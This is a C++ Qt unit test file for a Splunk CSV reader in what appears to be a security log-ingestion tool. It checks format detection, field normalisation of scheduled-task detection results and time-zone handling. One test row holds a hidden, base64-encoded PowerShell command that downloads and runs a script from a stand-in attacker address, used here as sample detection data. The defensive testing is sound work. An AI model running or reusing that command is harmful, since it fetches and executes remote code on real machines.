#include "ingest/FormatRegistry.h"
#include "ingest/NormalizedEvent.h"
#include "ingest/SplunkCsvReader.h"

#include <QFile>
#include <QTemporaryFile>
#include <QTest>

using namespace tb;

class TestSplunkCsvReader : public QObject {
    Q_OBJECT

    static QList<NormalizedEvent> readAll(const QString &path, SplunkCsvReader::Variant variant,
                                          QList<ImportIssue> *issues = nullptr,
                                          const QString &zone = QStringLiteral("UTC")) {
        QFile file(path);
        if (!file.open(QIODevice::ReadOnly))
            return {};
        SplunkCsvReader reader(&file,
                               {QStringLiteral("f.csv"), TimeNormalizer(QTimeZone(zone.toUtf8())),
                                QStringLiteral("Scheduled Task Deleted Or Created via CMD")},
                               variant);
        QList<NormalizedEvent> events;
        NormalizedEvent event;
        ImportIssue issue;
        for (;;) {
            const auto status = reader.next(event, issue);
            if (status == EventReader::Status::End || status == EventReader::Status::Failed)
                break;
            if (status == EventReader::Status::Event)
                events << event;
            else if (issues)
                issues->append(issue);
        }
        return events;
    }

    static QString escuSample() {
        return QStringLiteral(TEST_DATA_DIR
                              "/formats/splunk/escu_scheduled_task_deleted_or_created_via_cmd.csv");
    }

private slots:
    void detectsVariants_data() {
        QTest::addColumn<QByteArray>("head");
        QTest::addColumn<QString>("format");
        QTest::newRow("notable") << QByteArray("_time,rule_name,urgency,status_label,event_id,dest\n")
                                 << "splunk.notable.csv";
        QTest::newRow("escu results")
            << QByteArray("user,process_name,dest,count,process,firstTime,lastTime\n") << "splunk.escu.csv";
        QTest::newRow("event search") << QByteArray("_time,host,_raw\n") << "splunk.events.csv";
        QTest::newRow("BOM") << QByteArray("\xEF\xBB\xBF_time,host,_raw\n") << "splunk.events.csv";
        QTest::newRow("quoted header") << QByteArray("\"_time\",\"host\"\n") << "splunk.events.csv";
    }
    void detectsVariants() {
        QFETCH(QByteArray, head);
        QFETCH(QString, format);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head));
        QVERIFY(detected);
        QCOMPARE(detected->id, format);
    }

    void escuSampleNormalizes_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("host short") << 0 << "host"
                                    << "wks-hr-007";
        QTest::newRow("host fqdn") << 0 << "host_fqdn"
                                   << "wks-hr-007.corp.example.com";
        QTest::newRow("user") << 0 << "user"
                              << "adm_backup";
        QTest::newRow("domain") << 0 << "user_domain"
                                << "CORP";
        QTest::newRow("remote target") << 0 << "target_host"
                                       << "10.20.30.41";
        QTest::newRow("remote flag") << 0 << "task_remote"
                                     << "1";
        QTest::newRow("time assumed UTC") << 0 << "time_utc"
                                          << "2025-03-04T14:47:28.000000Z";
        QTest::newRow("time original") << 0 << "time_original"
                                       << "2025-03-04T14:47:28";
        QTest::newRow("confidence") << 0 << "time_confidence"
                                    << "assumed_tz";
        QTest::newRow("rule from context") << 0 << "rule_name"
                                           << "Scheduled Task Deleted Or Created via CMD";
        QTest::newRow("rule source") << 0 << "rule_source"
                                     << "splunk_escu";
        QTest::newRow("parent name") << 1 << "parent_name"
                                     << "powershell.exe";
        QTest::newRow("task name") << 1 << "task_name"
                                   << R"(\Corp\NightlyBackup)";
        QTest::newRow("run as") << 1 << "task_run_as"
                                << R"(CORP\svc_backup)";
        QTest::newRow("delete") << 2 << "task_operation"
                                << "deleted";
        QTest::newRow("malicious action")
            << 3 << "task_action"
            << "powershell.exe -nop -w hidden -enc "
               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuA"
               "GwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1ADAALwBhAC4AcA"
               "BzADEAJwApAA==";
        QTest::newRow("run level") << 3 << "task_run_level"
                                   << "HIGHEST";
        QTest::newRow("trigger") << 3 << "task_trigger"
                                 << "/sc onlogon";
        QTest::newRow("platform") << 3 << "platform"
                                  << "windows";
        QTest::newRow("multivalue kept whole")
            << 4 << "command_line"
            << "schtasks.exe /Create /TN \"ZoomUpdateTask\" /TR \"\\\"C:\\Program "
               "Files\\Zoom\\bin\\ZoomUpdater.exe\\\" /silent\" /SC DAILY /ST 10:00 /RU SYSTEM "
               "/F\nschtasks.exe /Delete /TN "
               "\"ZoomUpdateTaskUser-S-1-5-21-3623811015-3361044348-30300820-1244\" /F";
        QTest::newRow("multivalue first task") << 4 << "task_name"
                                               << "\\ZoomUpdateTask";
        QTest::newRow("SYSTEM account") << 5 << "user"
                                        << "SYSTEM";
        QTest::newRow("SYSTEM domain") << 5 << "user_domain"
                                       << "NT AUTHORITY";
    }
    void escuSampleNormalizes() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const QList<NormalizedEvent> events = readAll(escuSample(), SplunkCsvReader::Variant::EscuResults);
        QCOMPARE(events.size(), 6);
        const auto field = eventFieldByColumn(column);
        QVERIFY(field.has_value());
        QCOMPARE(events[record].value(*field), expected);
        QCOMPARE(events[record].recordNo, qint64(record));
    }

    void assumedZoneApplies() {
        const auto events = readAll(escuSample(), SplunkCsvReader::Variant::EscuResults, nullptr,
                                    QStringLiteral("Europe/Berlin"));
        QCOMPARE(events[0].value(EventField::TimeUtc), QStringLiteral("2025-03-04T13:47:28.000000Z"));
    }

    void rawKeepsEveryCell() {
        const auto events = readAll(escuSample(), SplunkCsvReader::Variant::EscuResults);
        QVERIFY(events[0].raw.startsWith(
            QLatin1String("{\"user\":\"CORP\\\\adm_backup\",\"process_name\":\"schtasks.exe\"")));
        QVERIFY(events[0].raw.contains(QLatin1String("\"lastTime\":\"2025-03-04T14:47:28\"")));
    }

    void badRecords_data() {
        QTest::addColumn<QByteArray>("csv");
        QTest::addColumn<QString>("expected");
        QTest::newRow("bad time")
            << QByteArray("_time,host\nnot-a-time,a\n")
            << "f.csv:record 0 (line 2): _time: \"not-a-time\" is not a time this reader understands";
        QTest::newRow("ragged row") << QByteArray("_time,host\n2025-01-01T00:00:00Z,a,extra\n")
                                    << "f.csv:record 0 (line 2): the row has 3 cells but the header has 2";
    }
    void badRecords() {
        QFETCH(QByteArray, csv);
        QFETCH(QString, expected);
        QTemporaryFile file;
        QVERIFY(file.open());
        file.write(csv);
        file.close();
        QList<ImportIssue> issues;
        const auto events = readAll(file.fileName(), SplunkCsvReader::Variant::Events, &issues);
        QCOMPARE(events.size(), 0);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues[0].toString(), expected);
    }
};

QTEST_GUILESS_MAIN(TestSplunkCsvReader)
#include "tst_splunkcsvreader.moc"
